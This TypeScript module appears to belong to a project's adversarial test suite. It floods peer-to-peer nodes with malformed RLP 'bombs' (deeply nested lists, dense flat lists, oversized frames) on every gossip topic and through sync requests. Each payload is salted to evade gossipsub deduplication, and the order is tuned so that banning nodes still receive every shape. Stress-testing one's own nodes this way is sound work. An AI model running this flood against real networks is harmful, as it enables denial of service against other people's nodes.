// rlp-bombs: RLP that no honest peer sends, at the size limits of docs/protocol.md section 10, on
// every gossip topic and as a sync request. Deeply nested lists (one list in another, as deep as
// the limit allows), flat lists of single zero bytes (the most items per byte), and messages past
// the limit. All canonical RLP, none of them a valid message.

import { randomBytes } from 'node:crypto'
import { depthFor, flatList, nestedList, requestFrame } from '../wire.ts'
import { type Attack, type AttackContext, mib, paced } from './context.ts'

const MIB = 1024 * 1024
/** Largest message each topic takes before decoding (envelope and framing included). */
const LIMIT = { txs: MIB + 64 * 1024, proposal: 8 * MIB + 256 + 32, vote: 512 + 32, commit: 8 * MIB + 4 * 1024 + 16 }
const SYNC_REQUEST_LIMIT = 256
/** Past every topic's limit and under gossipsub's 10 MiB frame. */
const OVERSIZED = { txs: 2 * MIB, proposal: 9.5 * MIB, vote: 4 * 1024, commit: 9.5 * MIB }
const DEFAULT_CYCLES_PER_SECOND = 0.5

type Target = keyof typeof LIMIT | 'sync'
type Shape = 'nested' | 'flat' | 'oversized'

/** The most dangerous first: a node that bans after a few rejects still meets each shape. */
const ORDER: Array<[Target, Shape]> = [
  ['proposal', 'nested'], ['commit', 'nested'], ['txs', 'nested'], ['vote', 'nested'], ['sync', 'nested'],
  ['proposal', 'flat'], ['commit', 'flat'], ['txs', 'flat'], ['vote', 'flat'], ['sync', 'flat'],
  ['proposal', 'oversized'], ['commit', 'oversized'], ['txs', 'oversized'], ['vote', 'oversized'], ['sync', 'oversized'],
]

/** A bomb of `shape` within (or, oversized, past) `limit` bytes; `cycle` makes each one distinct. */
function bomb(shape: Shape, limit: number, oversized: number, cycle: number): Uint8Array {
  // a different length (and salt byte) each cycle: gossipsub drops a payload it has seen
  const shrink = (room: number) => cycle % Math.max(1, Math.min(10_000, Math.floor(room / 4)))
  if (shape === 'nested') {
    const depth = depthFor(limit)
    return nestedList(depth - shrink(depth), cycle)
  }
  if (shape === 'flat') return flatList(limit - 8 - shrink(limit), cycle)
  return flatList(oversized - shrink(oversized), cycle)
}

async function syncBomb(ctx: AttackContext, shape: Shape, cycle: number): Promise<number> {
  let bytes = 0
  await Promise.all(
    ctx.host.connected().map(async (peer) => {
      const frame =
        shape === 'oversized'
          ? // a length far past the limit, then more bytes than the limit
            Buffer.concat([Buffer.from([0x40, 0, 0, 0]), randomBytes(64 * 1024)])
          : requestFrame(bomb(shape, SYNC_REQUEST_LIMIT - 8, 0, cycle))
      try {
        const stream = await ctx.host.open(peer, ctx.syncProtocol, 3_000)
        const timer = setTimeout(() => stream.abort(new Error('done')), 3_000)
        await stream.sink([frame]).catch(() => {})
        for await (const _ of stream.source) {
          // read the answer (an error code) until the node closes the stream
        }
        clearTimeout(timer)
        bytes += frame.length
      } catch {
        // refused or reset: sent all the same, or banned
      }
    }),
  )
  return bytes
}

export const rlpBombs: Attack = {
  gossip: true,
  async run(ctx) {
    const counts = new Map<string, number>()
    let bytes = 0
    await paced(ctx, ctx.args.rate ?? DEFAULT_CYCLES_PER_SECOND, async (cycle) => {
      for (const [target, shape] of ORDER) {
        if (!ctx.running()) return
        let sent = 0
        if (target === 'sync') {
          sent = await syncBomb(ctx, shape, cycle)
        } else {
          const data = bomb(shape, LIMIT[target], OVERSIZED[target], cycle)
          const reached = await ctx.host.publish(ctx.topics[target], data)
          sent = data.length * reached
        }
        if (sent === 0) continue
        bytes += sent
        counts.set(`${target} ${shape}`, (counts.get(`${target} ${shape}`) ?? 0) + 1)
        ctx.sent(1, sent)
        ctx.describe(`${[...counts.values()].reduce((a, b) => a + b, 0)} bombs (${mib(bytes)} over all targets; ${[...counts].map(([k, n]) => `${k} ${n}`).join(', ')})`)
        await ctx.drain()
      }
    })
  },
}
